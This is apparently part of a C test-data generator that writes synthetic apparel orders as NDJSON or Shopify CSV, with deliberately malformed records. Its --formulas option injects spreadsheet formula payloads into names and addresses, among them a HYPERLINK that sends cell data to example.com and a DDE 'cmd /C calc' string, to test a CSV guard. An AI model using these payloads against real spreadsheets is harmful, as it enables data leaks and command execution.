	if (svc == 0 && (amazon || o->subtotal - o->discount >= cur->free_over))
		o->shipping = 0;
	add_totals(o);
}

static void
make_wholesale(struct gen *g, struct order *o)
{
	struct rng *r = &g->r;
	bool edi = rng_pct(r, 60);
	const struct account *a =
	    &accounts[edi ? rng_below(r, NEDI) : NEDI + rng_below(r, NACCOUNTS - NEDI)];
	const struct currency *cur = currency_of(a->country);
	int32_t day = (int32_t)(o->placed / 86400);

	o->channel = "wholesale";
	o->source = a->source;
	if (edi) {
		long n = 4500010000L + g->edi++ * 7 + rng_below(r, 7);

		snprintf(o->channel_order_id, sizeof o->channel_order_id, "%ld", n);
		snprintf(o->order_id, sizeof o->order_id, "edi850:%s:%ld", a->partner, n);
	} else {
		static const char b36[] = "0123456789abcdefghijklmnopqrstuvwxyz";
		/* An odd multiplier prime to 3 walks all of 36^8 without repeats. */
		uint64_t x = ((uint64_t)g->faire++ * UINT64_C(2654435761) + 12345) %
		    UINT64_C(2821109907456);
		char id[9];

		for (int i = 7; i >= 0; i--, x /= 36)
			id[i] = b36[x % 36];
		id[8] = '\0';
		snprintf(o->channel_order_id, sizeof o->channel_order_id, "bo_%s", id);
		snprintf(o->order_id, sizeof o->order_id, "faire:bo_%s", id);
	}
	snprintf(o->cust_id, sizeof o->cust_id, "%s", a->id);
	snprintf(o->email, sizeof o->email, "%s", a->email);
	snprintf(o->cust_name, sizeof o->cust_name, "%s", a->buyer);
	o->cust_company = a->company;
	o->window = true;
	o->start_ship = day + (rng_pct(r, 20) ? rng_range(r, 0, 3) : rng_range(r, 7, 40));
	o->cancel_after = o->start_ship + rng_range(r, 14, 35);
	o->ship_by = o->cancel_after - 5;
	o->priority = a->priority;
	o->ship_complete = a->ship_complete;
	o->service = "standard";
	snprintf(o->to_name, sizeof o->to_name, "%s", a->to_name);
	o->to_company = a->company;
	snprintf(o->line1, sizeof o->line1, "%s", a->line1);
	o->line2 = a->line2;
	o->city = a->city;
	o->region = a->region;
	snprintf(o->postal, sizeof o->postal, "%s", a->postal);
	o->country = a->country;
	o->to_phone = a->phone;
	o->currency = cur->code;
	o->digits = cur->digits;
	o->pay_status = "pending";
	o->pay_terms = a->terms;
	o->tax_ppm = 0;
	wholesale_lines(g, o, rng_pct(r, 20) ? 5 : 0);
	o->shipping = 0;
	add_totals(o);
}

static void
make_order(struct gen *g, int64_t i, struct order *o)
{
	static const int channel_w[] = {60, 25, 15};
	struct rng *r = &g->r;
	int ch;

	o->placed =
	    g->start + i * g->span / g->n + rng_below(r, (int)(g->span / g->n) + 1);
	ch = rng_weighted(r, channel_w, 3);
	if (ch == 2)
		make_wholesale(g, o);
	else
		make_consumer(g, o, ch == 1);
	o->status = "open";
	if (rng_pct(r, 3)) {
		o->status = "cancelled";
		o->pay_status = ch == 2 ? "voided" : "refunded";
	}
}

static void
write_order(const struct gen *g, const struct order *o, enum bad bad, struct out *b)
{
	struct obj j = {b, true}, s;
	char text[64];

	out_c(b, '{');
	kv_str(&j, "type", "order");
	if (bad != BAD_NO_ID)
		kv_str(&j, "order_id", o->order_id);
	kv_str(&j, "channel", bad == BAD_CHANNEL ? "popup" : o->channel);
	kv_str(&j, "source", o->source);
	kv_str(&j, "channel_order_id", o->channel_order_id);
	kv_str(&j, "status", o->status);
	s = kv_open(&j, "customer");
	kv_str(&s, "id", o->cust_id);
	kv_str(&s, "email", o->email);
	kv_str(&s, "name", o->cust_name);
	kv_str(&s, "company", o->cust_company);
	out_c(b, '}');
	if (bad == BAD_DATE) {
		kv_str(&j, "placed_at", "2026-02-30T10:00:00Z");
	} else {
		key(&j, "placed_at");
		out_c(b, '"');
		out_ts(b, o->placed);
		out_c(b, '"');
	}
	kv_date(&j, "ship_by", o->ship_by);
	if (o->window) {
		kv_date(&j, "start_ship", o->start_ship);
		kv_date(&j, "cancel_after", o->cancel_after);
	}
	if (o->priority)
		kv_int(&j, "priority", o->priority);
	if (o->ship_complete >= 0)
		kv_bool(&j, "ship_complete", o->ship_complete);
	kv_str(&j, "service", o->service);
	s = kv_open(&j, "ship_to");
	kv_str(&s, "name", o->to_name);
	kv_str(&s, "company", o->to_company);
	kv_str(&s, "line1", o->line1);
	kv_str(&s, "line2", o->line2);
	kv_str(&s, "city", o->city);
	kv_str(&s, "region", o->region);
	kv_str(&s, "postal_code", o->postal);
	kv_str(&s, "country", o->country);
	kv_str(&s, "phone", o->to_phone);
	out_c(b, '}');
	kv_str(&j, "currency", o->currency);
	s = kv_open(&j, "payment");
	kv_str(&s, "status", o->pay_status);
	kv_str(&s, "terms", o->pay_terms);
	out_c(b, '}');
	s = kv_open(&j, "totals");
	kv_money(&s, "subtotal", o->subtotal, o->digits);
	kv_money(&s, "discount", o->discount, o->digits);
	kv_money(&s, "shipping", o->shipping, o->digits);
	kv_money(&s, "tax", o->tax, o->digits);
	kv_money(&s, "total", o->total, o->digits);
	out_c(b, '}');
	key(&j, "lines");
	out_c(b, '[');
	for (int i = 0; i < o->nlines; i++) {
		const struct line *l = &o->lines[i];
		int style = l->sku / (NCOLORS * NSIZES);
		struct obj lj = {b, true};

		if (i)
			out_c(b, ',');
		out_c(b, '{');
		snprintf(text, sizeof text, "%d", i + 1);
		kv_str(&lj, "line_id", text);
		sku_text(&g->brand, l->sku, text, sizeof text);
		kv_str(&lj, "sku", text);
		kv_str(&lj, "style", styles[style].code);
		kv_str(&lj, "color",
		    palette[g->brand.colors[style][l->sku / NSIZES % NCOLORS]]);
		kv_str(&lj, "size", sizes[l->sku % NSIZES]);
		upc_text(l->sku, text);
		kv_str(&lj, "upc", text);
		if (i == 0 && bad == BAD_QTY)
			kv_str(&lj, "qty", "two");
		else
			kv_int(&lj, "qty", l->qty);
		if (i == 0 && bad == BAD_MONEY)
			kv_str(&lj, "unit_price", "1.005");
		else
			kv_money(&lj, "unit_price", l->unit, o->digits);
		kv_money(&lj, "discount", l->discount, o->digits);
		kv_money(&lj, "tax", l->tax, o->digits);
		kv_bool(&lj, "preorder", l->preorder);
		if (l->case_pack)
			kv_int(&lj, "case_pack", l->case_pack);
		out_c(b, '}');
	}
	out_s(b, "]}");
	/* Invalid JSON: the record loses its closing brace. */
	if (bad == BAD_JSON)
		b->len--;
	out_c(b, '\n');
}

/* ---- the Shopify orders export (-f shopify) ---- */

/*
 * The 79-column layout of Shopify's admin "Export orders" CSV: one row per
 * line, the order's own columns on its first row only (FORMATS.md section 1).
 */
static const char shopify_header[] =
    "Name,Email,Financial Status,Paid at,Fulfillment Status,Fulfilled at,"
    "Accepts Marketing,Currency,Subtotal,Shipping,Taxes,Total,Discount Code,"
    "Discount Amount,Shipping Method,Created at,Lineitem quantity,Lineitem name,"
    "Lineitem price,Lineitem compare at price,Lineitem sku,"
    "Lineitem requires shipping,Lineitem taxable,Lineitem fulfillment status,"
    "Billing Name,Billing Street,Billing Address1,Billing Address2,"
    "Billing Company,Billing City,Billing Zip,Billing Province,Billing Country,"
    "Billing Phone,Shipping Name,Shipping Street,Shipping Address1,"
    "Shipping Address2,Shipping Company,Shipping City,Shipping Zip,"
    "Shipping Province,Shipping Country,Shipping Phone,Notes,Note Attributes,"
    "Cancelled at,Payment Method,Payment Reference,Refunded Amount,Vendor,"
    "Outstanding Balance,Employee,Location,Device ID,Id,Tags,Risk Level,Source,"
    "Lineitem discount,Tax 1 Name,Tax 1 Value,Tax 2 Name,Tax 2 Value,"
    "Tax 3 Name,Tax 3 Value,Tax 4 Name,Tax 4 Value,Tax 5 Name,Tax 5 Value,"
    "Phone,Receipt Number,Duties,Billing Province Name,Shipping Province Name,"
    "Payment ID,Payment Terms Name,Next Payment Due At,Payment References\n";

static const char *const color_names[NPALETTE] = {
    "Black",
    "White",
    "Navy",
    "Heather Grey",
    "Olive",
    "Sand",
    "Rust",
    "Sky Blue",
    "Burgundy",
    "Forest",
    "Cream",
    "Charcoal",
    "Indigo",
    "Tan",
    "Pink",
    "Red",
};

struct province {
	const char *code, *name;
};

static const struct province provinces[] = {
    {"NY", "New York"},
    {"CA", "California"},
    {"IL", "Illinois"},
    {"TX", "Texas"},
    {"WA", "Washington"},
    {"OR", "Oregon"},
    {"MA", "Massachusetts"},
    {"CO", "Colorado"},
    {"FL", "Florida"},
    {"NJ", "New Jersey"},
    {"OK", "Oklahoma"},
    {"QC", "Quebec"},
    {"ON", "Ontario"},
    {"BC", "British Columbia"},
};

static const char *
province_name(const char *country, const char *region)
{
	if (strcmp(country, "US") != 0 && strcmp(country, "CA") != 0)
		return region;
	for (size_t i = 0; i < sizeof provinces / sizeof provinces[0]; i++)
		if (strcmp(provinces[i].code, region) == 0)
			return provinces[i].name;
	return region;
}

/* The second Sunday of March and the first of November, 2 a.m. local. */
static int64_t
sunday_utc(int y, int m, int nth, int hour_utc)
{
	int32_t d = date_from_civil(y, m, 1);

	while (weekday(d) != 0)
		d++;
	return ((int64_t)d + 7 * (nth - 1)) * 86400 + hour_utc * 3600;
}

/* A time in the shop's zone, America/New_York: "2026-11-03 09:15:22 -0500". */
static void
out_shop_time(struct out *o, int64_t t)
{
	int y, m, d, rem;
	bool dst;

	date_to_civil((int32_t)(t / 86400), &y, &m, &d);
	dst = t >= sunday_utc(y, 3, 2, 7) && t < sunday_utc(y, 11, 1, 6);
	t += (dst ? -4 : -5) * 3600;
	rem = (int)(t % 86400);
	out_date(o, (int32_t)(t / 86400));
	out_c(o, ' ');
	out_2d(o, rem / 3600);
	out_c(o, ':');
	out_2d(o, rem / 60 % 60);
	out_c(o, ':');
	out_2d(o, rem % 60);
	out_s(o, dst ? " -0400" : " -0500");
}

/* "TEE-CREW" is "Crew Tee": the words of the code, last first, capitalised. */
static void
product_title(const char *code, char *out, size_t n)
{
	const char *end = code + strlen(code);
	size_t len = 0;

	while (end > code && len + 1 < n) {
		const char *w = end;

		while (w > code && w[-1] != '-')
			w--;
		if (len && len + 1 < n)
			out[len++] = ' ';
		for (const char *c = w; c < end && len + 1 < n; c++)
			out[len++] =
			    c == w || *c < 'A' || *c > 'Z' ? *c : (char)(*c - 'A' + 'a');
		end = w > code ? w - 1 : code;
	}
	out[len] = '\0';
}

/* The text of the order's own cells, made once and used on its first row. */
struct shop_order {
	char name[24], id[24], payref[24], street[200], zip[24], phone[32], e164[32],
	    tax_name[64], terms[16];
	const char *tags, *code, *method, *province;
	int64_t paid_at, cancelled_at, due_at, refunded, outstanding;
	bool marketing;
};

static void
shop_order_make(
    const struct gen *g, const struct order *o, int64_t i, struct shop_order *s)
{
	/* Its own randomness, so the orders drawn stay those of the NDJSON. */
	struct rng r = {g->seed ^ ((uint64_t)i + 1) * UINT64_C(0xd1342543de82ef95)};
	bool preorder = false, paid = strcmp(o->pay_status, "paid") == 0,
	     refunded = strcmp(o->pay_status, "refunded") == 0;
	const char *p;
	size_t n = 0;
	int days;

	snprintf(s->name, sizeof s->name, "#%" PRId64, 1001 + i);
	snprintf(s->id, sizeof s->id, "%" PRId64, INT64_C(6100000000000) + 1001 + i);
	snprintf(s->payref, sizeof s->payref, "c%" PRId64 ".1", 30000001 + i);
	if (o->line2)
		snprintf(s->street, sizeof s->street, "%s, %s", o->line1, o->line2);
	else
		snprintf(s->street, sizeof s->street, "%s", o->line1);
	/* The spreadsheet guard: an apostrophe before numeric zips and phones. */
	snprintf(s->zip, sizeof s->zip, "%s%s",
	    o->postal[strspn(o->postal, "0123456789")] ? "" : "'", o->postal);
	s->phone[0] = s->e164[0] = '\0';
	if (o->to_phone) {
		snprintf(s->phone, sizeof s->phone, "'%s", o->to_phone);
		for (p = o->to_phone; *p && n + 1 < sizeof s->e164; p++)
			if (*p != ' ')
				s->e164[n++] = *p;
		s->e164[n] = '\0';
	}
	for (int k = 0; k < o->nlines; k++)
		preorder |= o->lines[k].preorder;
	s->tags = preorder ? "pre-order, winter-drop" : NULL;
	s->code = NULL;
	if (o->discount)
		s->code = o->channel[0] == 'w' ? "WHOLESALE5" : "HOLIDAY";
	s->method = o->service[0] == 's' ? "Standard Shipping"
	    : o->service[0] == 'e'       ? "Express Shipping"
					 : "Next Day Shipping";
	s->province = province_name(o->country, o->region);
	s->tax_name[0] = '\0';
	if (o->tax) {
		char pct[16];
		int whole = o->tax_ppm / 10000, frac = o->tax_ppm % 10000, d = 4;

		while (frac && frac % 10 == 0) {
			frac /= 10;
			d--;
		}
		if (frac)
			snprintf(pct, sizeof pct, "%d.%0*d", whole, d, frac);
		else
			snprintf(pct, sizeof pct, "%d", whole);
		if (strcmp(o->country, "US") == 0 || strcmp(o->country, "CA") == 0)
			snprintf(s->tax_name, sizeof s->tax_name, "%s Tax %s%%",
			    s->province, pct);
		else
			snprintf(s->tax_name, sizeof s->tax_name, "%s VAT %s%%",
			    o->country, pct);
	}
	s->paid_at = paid || refunded ? o->placed + rng_range(&r, 1, 30) : -1;
	s->cancelled_at = strcmp(o->status, "cancelled") == 0
	    ? o->placed + rng_range(&r, 600, 2 * 86400)
	    : -1;
	s->refunded = refunded ? o->total : 0;
	s->outstanding = paid || refunded ? 0 : o->total;
	s->marketing = rng_pct(&r, 35);
	s->terms[0] = '\0';
	s->due_at = -1;
	if (sscanf(o->pay_terms, "net%d", &days) == 1) {
		snprintf(s->terms, sizeof s->terms, "Net %d", days);
		s->due_at = o->placed + (int64_t)days * 86400;
	}
}

/* Cells after the first: text, quoted empty string, money, shop time. */
static void
sc(struct out *b, const char *v)
{
	out_c(b, ',');
	if (v)
		out_cell(b, v);
}

static void
sq(struct out *b)
{
	out_s(b, ",\"\"");
}

static void
sm(struct out *b, int64_t v, int digits)
{
	out_c(b, ',');
	out_money(b, v, digits);
}

static void
st(struct out *b, int64_t t)
{
	out_c(b, ',');
	if (t >= 0)
		out_shop_time(b, t);
}

static void
skip(struct out *b, int n)
{
	while (n-- > 0)
		out_c(b, ',');
}

/* The row of line k; the first carries the order's own columns as well. */
static void
shopify_row(const struct gen *g, const struct order *o, const struct shop_order *s, int k,
    struct out *b)
{
	const struct line *l = &o->lines[k];
	int style = l->sku / (NCOLORS * NSIZES), dg = o->digits;
	bool first = k == 0, cancelled = s->cancelled_at >= 0;
	char text[128], title[64];

	out_cell(b, s->name);
	sc(b, o->email);
	if (first) {
		sc(b, o->pay_status);
		st(b, s->paid_at);
		sc(b, "unfulfilled");
		sc(b, NULL);
		sc(b, s->marketing ? "yes" : "no");
		sc(b, o->currency);
		/* Shopify's Subtotal is after discounts. */
		sm(b, o->subtotal - o->discount, dg);
		sm(b, o->shipping, dg);
		sm(b, o->tax, dg);
		sm(b, o->total, dg);
		if (s->code)
			sc(b, s->code);
		else
			sq(b);
		sm(b, o->discount, dg);
		sc(b, s->method);
	} else {
		skip(b, 13);
	}
	st(b, o->placed);
	out_c(b, ',');
	out_int(b, l->qty);
	product_title(styles[style].code, title, sizeof title);
	snprintf(text, sizeof text, "%s - %s / %s", title,
	    color_names[g->brand.colors[style][l->sku / NSIZES % NCOLORS]],
	    sizes[l->sku % NSIZES]);
	sc(b, text);
	sm(b, l->unit, dg);
	if (first)
		sc(b, NULL);
	else
		sq(b);
	sku_text(&g->brand, l->sku, text, sizeof text);
	sc(b, text);
	sc(b, "true");
	sc(b, l->tax ? "true" : "false");
	sc(b, cancelled ? "restocked" : "pending");
	if (first) {
		/* Billing: the customer at the ship-to address. */
		sc(b, o->cust_name);
		sc(b, s->street);
		sc(b, o->line1);
		sc(b, o->line2);
		sc(b, o->cust_company);
		sc(b, o->city);
		sc(b, s->zip);
		sc(b, o->region);
		sc(b, o->country);
		sc(b, s->phone);
		sc(b, o->to_name);
		sc(b, s->street);
		sc(b, o->line1);
		sc(b, o->line2);
		sc(b, o->to_company);
		sc(b, o->city);
		sc(b, s->zip);
		sc(b, o->region);
		sc(b, o->country);
		sc(b, s->phone);
		sc(b, NULL);
		sq(b);
		st(b, s->cancelled_at);
		if (s->terms[0])
			sq(b);
		else
			sc(b, "Shopify Payments");
		sc(b, s->payref);
		sm(b, s->refunded, dg);
	} else {
		skip(b, 26);
	}
	sc(b, "Northwind Apparel");
	if (first) {
		sm(b, s->outstanding, dg);
		skip(b, 3);
		sc(b, s->id);
		if (s->tags)
			sc(b, s->tags);
		else
			sq(b);
		sc(b, "Low");
		sc(b, "web");
	} else {
		skip(b, 8);
	}
	sm(b, l->discount, dg);
	if (first && s->tax_name[0]) {
		sc(b, s->tax_name);
		sm(b, o->tax, dg);
		skip(b, 8);
	} else {
		skip(b, 10);
	}
	sc(b, s->e164);
	skip(b, 2);
	if (first) {
		sc(b, s->province);
		sc(b, s->province);
		sc(b, s->payref);
		sc(b, s->terms);
		st(b, s->due_at);
		sc(b, s->payref);
	} else {
		skip(b, 6);
	}
	out_c(b, '\n');
}

static void
write_shopify(const struct gen *g, const struct order *o, int64_t i, struct out *b)
{
	struct shop_order s;

	shop_order_make(g, o, i, &s);
	for (int k = 0; k < o->nlines; k++)
		shopify_row(g, o, &s, k, b);
}

/* ---- reference files ---- */

static bool
write_file(const char *dir, const char *name, const struct out *b)
{
	char path[4096];
	FILE *f;
	bool ok;

	snprintf(path, sizeof path, "%s/%s", dir, name);
	if (!(f = fopen(path, "w"))) {
		fprintf(stderr, "gen: %s: %s\n", path, strerror(errno));
		return false;
	}
	ok = fwrite(b->p, 1, b->len, f) == b->len;
	ok &= fclose(f) == 0;
	if (!ok)
		fprintf(stderr, "gen: %s: %s\n", path, strerror(errno));
	return ok;
}

static void
csv_int(struct out *b, int64_t v)
{
	out_c(b, ',');
	out_int(b, v);
}

static void
write_catalog(const struct gen *g, struct out *b)
{
	char text[64];

	out_s(b, "sku,upc,style,color,size,size_index,case_pack\n");
	for (int k = 0; k < NSKUS; k++) {
		int style = k / (NCOLORS * NSIZES);

		sku_text(&g->brand, k, text, sizeof text);
		out_cell(b, text);
		upc_text(k, text);
		out_c(b, ',');
		out_s(b, text);
		out_c(b, ',');
		out_s(b, styles[style].code);
		out_c(b, ',');
		out_s(b, palette[g->brand.colors[style][k / NSIZES % NCOLORS]]);
		out_c(b, ',');
		out_s(b, sizes[k % NSIZES]);
		csv_int(b, k % NSIZES + 1);
		csv_int(b, styles[style].case_pack);
		out_c(b, '\n');
	}
}

static void
write_locations(const struct gen *g, struct out *b)
{
	out_s(b, "location,kind,country,region,priority,channels,max_orders,max_units\n");
	for (int i = 0; i < g->brand.nlocations; i++) {
		const struct location *l = &locations[i];

		out_s(b, l->id);
		out_c(b, ',');
		out_s(b, l->kind);
		out_c(b, ',');
		out_s(b, l->country);
		out_c(b, ',');
		out_s(b, l->region);
		csv_int(b, l->priority);
		out_c(b, ',');
		out_s(b, l->channels);
		out_c(b, ',');
		if (l->max_orders)
			out_int(b, l->max_orders);
		out_c(b, ',');
		if (l->max_units)
			out_int(b, l->max_units);
		out_c(b, '\n');
	}
}

static void
supply_row(struct out *b, const char *id, const char *kind, const char *sku, int64_t qty,
    int32_t due, const char *location)
{
	out_s(b, id);
	out_c(b, ',');
	out_s(b, kind);
	out_c(b, ',');
	out_cell(b, sku);
	csv_int(b, qty);
	out_c(b, ',');
	out_date(b, due);
	out_c(b, ',');
	out_s(b, location);
	out_c(b, '\n');
}

/*
 * Stock is drawn from the demand of the generated orders, so allocation has
 * work to do: most SKUs covered, some short, a few out; new-season styles
 * have none yet. Supply covers what is short.
 */
static void
write_stock(const struct gen *g, struct out *inv, struct out *sup)
{
	struct rng r = {g->seed ^ UINT64_C(0x73746f636b)};
	int nloc = g->brand.nlocations, po = 0, prd = 0, share_sum = 0;
	char sku[64], id[32];

	for (int i = 0; i < nloc; i++)
		share_sum += locations[i].share;
	out_s(inv, "location,sku,on_hand,safety_stock\n");
	out_s(sup, "supply_id,kind,sku,qty,expected_date,location\n");
	for (int k = 0; k < NSKUS; k++) {
		int style = k / (NCOLORS * NSIZES), x = rng_below(&r, 100);
		int cp = styles[style].case_pack, pct;
		int64_t demand = g->demand[k], total, left, qty[5], shortfall;
		int32_t due = date_from_civil(2026, 12, 1);

		pct = x < 4 ? 0 : x < 30 ? rng_range(&r, 40, 85) : rng_range(&r, 90, 140);
		total = demand * pct / 100;
		if (demand == 0 && pct)
			total = rng_range(&r, 0, 20);
		if (style_preorder(style))
			total = 0;
		/* Stores and 3PLs carry part of the range; DC-EAST takes the rest. */
		left = total;
		for (int i = nloc - 1; i > 0; i--) {
			bool carried = locations[i].carries_all || rng_pct(&r, 60);

			qty[i] = carried ? total * locations[i].share / share_sum : -1;
			left -= qty[i] > 0 ? qty[i] : 0;
		}
		qty[0] = left;
		sku_text(&g->brand, k, sku, sizeof sku);
		for (int i = 0; i < nloc; i++) {
			int safety = 0;

			if (qty[i] < 0)
				continue;
			if (locations[i].kind[0] == 's')
				safety = 1;
			else if (locations[i].kind[0] == 'w' && qty[i] > 20)
				safety = rng_range(&r, 0, 3);
			out_s(inv, locations[i].id);
			out_c(inv, ',');
			out_cell(inv, sku);
			csv_int(inv, qty[i]);
			csv_int(inv, safety);
			out_c(inv, '\n');
		}
		if (style_preorder(style)) {
			if (demand == 0)
				continue;
			snprintf(id, sizeof id, "PRD-26-%04d", ++prd);
			supply_row(sup, id, "production", sku,
			    demand * rng_range(&r, 80, 120) / 100 + 1,
			    date_from_civil(2027, 1, 10) + rng_below(&r, 30), "");
			continue;
		}
		if (total >= demand && !rng_pct(&r, 5))
			continue;
		/*
		 * A purchase order for what is short, in whole cases; sometimes
		 * two. A covered SKU that gets one anyway gets a case.
		 */
		shortfall = (demand - total + cp) / cp;
		if (shortfall < 1)
			shortfall = 1;
		for (int n = shortfall > 1 && rng_pct(&r, 30) ? 2 : 1; n > 0; n--) {
			int64_t cases = n == 2 ? shortfall / 2 : shortfall;

			shortfall -= cases;
			due += rng_range(&r, 0, 25);
			snprintf(id, sizeof id, "PO-26-%05d", ++po);
			supply_row(sup, id, "po", sku, cases * cp, due,
			    locations[rng_pct(&r, 70) ? 0 : 1].id);
		}
	}
}

/* Prepacks: the 2-4-4-2 dozen (or half dozen) over S-M-L-XL of top styles. */
static void
write_packs(const struct gen *g, struct out *b)
{
	static const int dozen[NSIZES] = {0, 2, 4, 4, 2};
	char text[64];

	out_s(b, "pack_sku,sku,qty\n");
	for (int s = 0; s < 10; s++) {
		for (int c = 0; c < 2; c++) {
			int cp = styles[s].case_pack;

			for (int z = 1; z < NSIZES; z++) {
				out_s(b, styles[s].code);
				out_c(b, '-');
				out_s(b, palette[g->brand.colors[s][c]]);
				out_s(b, cp == 12 ? "-PPK12," : "-PPK6,");
				sku_text(
				    &g->brand, sku_index(s, c, z), text, sizeof text);
				out_cell(b, text);
				csv_int(b, cp == 12 ? dozen[z] : dozen[z] / 2);
				out_c(b, '\n');
			}
		}
	}
}

static bool
write_refs(const struct gen *g, const char *dir)
{
	struct out b[5] = {{0}};
	bool ok;

	if (mkdir(dir, 0777) != 0 && errno != EEXIST) {
		fprintf(stderr, "gen: %s: %s\n", dir, strerror(errno));
		return false;
	}
	write_catalog(g, &b[0]);
	write_locations(g, &b[1]);
	write_stock(g, &b[2], &b[3]);
	write_packs(g, &b[4]);
	ok = write_file(dir, "catalog.csv", &b[0]) &&
	    write_file(dir, "locations.csv", &b[1]) &&
	    write_file(dir, "inventory.csv", &b[2]) &&
	    write_file(dir, "supply.csv", &b[3]) && write_file(dir, "packs.csv", &b[4]);
	for (int i = 0; i < 5; i++)
		free(b[i].p);
	return ok;
}

/* ---- main ---- */

struct opts {
	int64_t n, bad_every;
	uint64_t seed;
	const char *refs;
	bool shopify;
	bool formulas;
};

/*
 * --formulas: text a spreadsheet would take for a formula (OWASP's
 * triggers), some already behind the apostrophes of the guard, as a hostile
 * customer would type it. Names and addresses start with them in turn.
 */
static const char *const formula_starts[] = {
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "'=",
    "''+",
    "'-",
    "'\t",
    "=HYPERLINK(\"http://example.com/?\"&A1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
};

static const char *const formula_line2s[] = {
    "=1+2",
    "+Apt 4B",
    "-Suite 200",
    "@Unit 7",
    "'=Floor 3",
    "\tc/o The Loft",
};

/* Put start before text, in n bytes: the text is cut short, at a character, when it must. */
static void
prefix_text(char *text, size_t n, const char *start)
{
	size_t k = strlen(start), len = strlen(text);

	if (k + len >= n) {
		len = n - 1 - k;
		while (len > 0 && ((unsigned char)text[len] & 0xC0) == 0x80)
			len--;
	}
	memmove(text + k, text, len);
	memcpy(text, start, k);
	text[k + len] = '\0';
}

/* Start the order's names and addresses with formula triggers, order i's turn in the list. */
static void
add_formulas(struct order *o, int64_t i)
{
	size_t n = sizeof formula_starts / sizeof formula_starts[0];

	prefix_text(o->cust_name, sizeof o->cust_name, formula_starts[i % n]);
	prefix_text(o->to_name, sizeof o->to_name, formula_starts[(i + 1) % n]);
	prefix_text(o->line1, sizeof o->line1, formula_starts[(i + 2) % n]);
	if (o->line2)
		o->line2 = formula_line2s[i %
		    (sizeof formula_line2s / sizeof formula_line2s[0])];
}

static bool
parse_count(const char *s, int64_t max, int64_t *v)
{
	char *end;
	long long x;

	if (*s < '0' || *s > '9')
		return false;
	errno = 0;
	x = strtoll(s, &end, 10);
	if (errno || *end || x > max)
		return false;
	*v = x;
	return true;
}

/* Parse the command line; returns -1 to go on, or the status to exit with. */
static int
parse_options(int argc, char **argv, struct opts *o)
{
	static const struct option longopts[] = {
	    {"bad", required_argument, NULL, 'b'},
	    {"format", required_argument, NULL, 'f'},
	    {"formulas", no_argument, NULL, 'F'},
	    {"help", no_argument, NULL, 'h'},
	    {"refs", required_argument, NULL, 'r'},
	    {NULL, 0, NULL, 0},
	};
	int64_t seed;
	int c;

	while ((c = getopt_long(argc, argv, "f:hn:s:", longopts, NULL)) != -1) {
		switch (c) {
		case 'b':
			if (!parse_count(optarg, INT32_MAX, &o->bad_every)) {
				fprintf(stderr,
				    "gen: --bad \"%s\" is not a whole "
				    "number\n",
				    optarg);
				return 2;
			}
			break;
		case 'f':
			if (strcmp(optarg, "ndjson") == 0) {
				o->shopify = false;
			} else if (strcmp(optarg, "shopify") == 0) {
				o->shopify = true;
			} else {
				fprintf(stderr,
				    "gen: -f \"%s\": the formats are "
				    "ndjson and shopify\n",
				    optarg);
				return 2;
			}
			break;
		case 'F':
			o->formulas = true;
			break;
		case 'h':
			fputs(usage_text, stdout);
			fputs("\nWrite ORDERS apparel orders as canonical NDJSON "
			      "(default 1000, seed 1);\n--bad K makes every K-th "
			      "record bad, --formulas starts names and addresses\nwith "
			      "spreadsheet formula triggers (= + - @ tab CR LF, some "
			      "behind '),\n--refs DIR writes catalog.csv,\n"
			      "inventory.csv, locations.csv, supply.csv and "
			      "packs.csv into DIR.\n-f shopify writes the same orders "
			      "as a Shopify orders export CSV\n(79 columns, one row a "
			      "line, each order numbered #1001 on in the order made,\n"
			      "oldest first, times in America/New_York).\n",
			    stdout);
			return 0;
		case 'n':
			if (!parse_count(optarg, INT64_C(1000000000), &o->n)) {
				fprintf(stderr,
				    "gen: -n \"%s\" is not a whole "
				    "number\n",
				    optarg);
				return 2;
			}
			break;
		case 'r':
			o->refs = optarg;
			break;
		case 's':
			if (!parse_count(optarg, INT64_MAX, &seed)) {
				fprintf(stderr,
				    "gen: -s \"%s\" is not a whole "
				    "number\n",
				    optarg);
				return 2;
			}
			o->seed = (uint64_t)seed;
			break;
		default:
			fputs(usage_text, stderr);
			return 2;
		}
	}
	if (optind < argc) {
		fputs(usage_text, stderr);
		return 2;
	}
	if (o->shopify && (o->bad_every || o->formulas)) {
		fputs(
		    "gen: --bad and --formulas are for the NDJSON output only\n", stderr);
		return 2;
	}
	return -1;
}

int
main(int argc, char **argv)
{
	static struct gen g;
	struct opts opt = {1000, 0, 1, NULL, false, false};
	struct order o;
	struct out b = {0};
	int64_t bad = 0;
	int status;

	if ((status = parse_options(argc, argv, &opt)) >= 0)
		return status;
	status = 0;
	g.seed = opt.seed;
	g.r.s = opt.seed;
	brand_make(&g.brand, opt.seed);
	g.n = opt.n ? opt.n : 1;
	g.start = (int64_t)date_from_civil(2026, 11, 1) * 86400;
	g.span = 50 * 86400;
	if (opt.shopify)
		out_s(&b, shopify_header);
	for (int64_t i = 0; i < opt.n; i++) {
		enum bad kind = BAD_NONE;

		make_order(&g, i, &o);
		if (opt.formulas)
			add_formulas(&o, i);
		if (opt.bad_every && (i + 1) % opt.bad_every == 0) {
			kind = (enum bad)(((i + 1) / opt.bad_every - 1) % NBAD);
			bad++;
		} else if (strcmp(o.status, "open") == 0) {
			/* Demand of the good open orders sizes the stock in --refs. */
			for (int k = 0; k < o.nlines; k++)
				g.demand[o.lines[k].sku] += o.lines[k].qty;
		}
		if (opt.shopify)
			write_shopify(&g, &o, i, &b);
		else
			write_order(&g, &o, kind, &b);
		if (b.len >= 1 << 16) {
			fwrite(b.p, 1, b.len, stdout);
			b.len = 0;
		}
	}
	fwrite(b.p, 1, b.len, stdout);
	free(b.p);
	if (fflush(stdout) != 0 || ferror(stdout)) {
		fprintf(stderr, "gen: standard output: %s\n", strerror(errno));
		status = 2;
	}
	if (opt.refs && !write_refs(&g, opt.refs))
		status = 2;
	if (opt.bad_every)
		fprintf(
		    stderr, "gen: %" PRId64 " records, %" PRId64 " bad\n", opt.n, bad);
	return status;
}
